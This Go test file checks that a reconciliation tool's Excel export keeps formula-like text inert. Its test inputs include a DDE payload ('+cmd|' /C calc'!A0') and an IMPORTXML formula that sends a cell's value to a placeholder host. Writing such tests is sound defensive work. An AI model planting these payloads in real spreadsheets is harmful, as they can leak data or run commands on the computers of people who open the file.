package push

import (
	"bytes"
	"testing"

	"github.com/xuri/excelize/v2"

	"doisoat/reconcile"
	"doisoat/reconcile/report"
)

// formulaLooking are texts that a program that opens the file, or a person who
// edits the cell, might take for a formula.
var formulaLooking = []string{
	`=IMPORTXML("http://x/?"&A1,"//a")`, `=HYPERLINK("http://x","y")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
	"\t=1+1", "\n=1+1", "'=1", " =1+1", "＝1+1",
}

// TestNoCopyHoldsAFormula: in the annotated copy of an agency's workbook, and in
// the workbook that stands for a file of another kind, whatever was read from a
// sheet stays a text, in cells, comments and the head.
func TestNoCopyHoldsAFormula(t *testing.T) {
	var problems [][]string
	var comments []Comment
	for i, s := range formulaLooking {
		problems = append(problems, []string{s, s, s})
		comments = append(comments, Comment{Sheet: "Danh sách", Cell: cellName(2, i+2), Text: s, Severity: reconcile.SeverityError})
	}
	tab := formulaTab(problems)
	original := plainBook(t)
	copied, err := Annotate(bytes.NewReader(original), int64(len(original)), tab, comments)
	if err != nil {
		t.Fatal(err)
	}
	alone, err := Standalone(tab, "=cmd.csv")
	if err != nil {
		t.Fatal(err)
	}
	for name, xlsx := range map[string][]byte{"the annotated copy": copied, "a workbook of its own": alone} {
		file, err := excelize.OpenReader(bytes.NewReader(xlsx))
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		sheet := file.GetSheetName(0)
		header, err := file.SearchSheet(sheet, reconcile.ColumnCode)
		if err != nil || len(header) != 1 {
			t.Fatalf("%s: the header stands at %q (%v)", name, header, err)
		}
		_, first, _ := parseCell(header[0])
		for i, want := range formulaLooking {
			for col := 1; col <= 3; col++ {
				cell := cellName(col, first+1+i)
				if formula, err := file.GetCellFormula(sheet, cell); err != nil || formula != "" {
					t.Errorf("%s: %q became the formula %q (%v)", name, want, formula, err)
				}
				if got, err := file.GetCellValue(sheet, cell); err != nil || got != want {
					t.Errorf("%s: %q came back as %q (%v)", name, want, got, err)
				}
			}
		}
		if err := file.Close(); err != nil {
			t.Error(err)
		}
	}
}

// formulaTab is a tab whose title and rows hold the texts.
func formulaTab(rows [][]string) report.Tab {
	table := report.Block{Kind: report.Table, Columns: []report.Column{
		{Title: reconcile.ColumnCode}, {Title: reconcile.ColumnAnswer, Staff: true}, {Title: reconcile.ColumnText, Staff: true},
	}}
	head := make([]report.Cell, len(table.Columns))
	for i, c := range table.Columns {
		head[i] = report.Cell{Value: c.Title, Style: report.Header}
	}
	table.Rows = append(table.Rows, head)
	for _, row := range rows {
		var cells []report.Cell
		for _, s := range row {
			cells = append(cells, report.Cell{Value: s})
		}
		table.Rows = append(table.Rows, cells)
	}
	title := report.Block{Rows: [][]report.Cell{{{Value: "=1+1", Style: report.Title, Span: 3}}}}
	return report.Tab{Name: reconcile.DiscrepancyTab, Blocks: []report.Block{title, table}, Widths: []float64{20, 20, 20}, FreezeRow: 2}
}
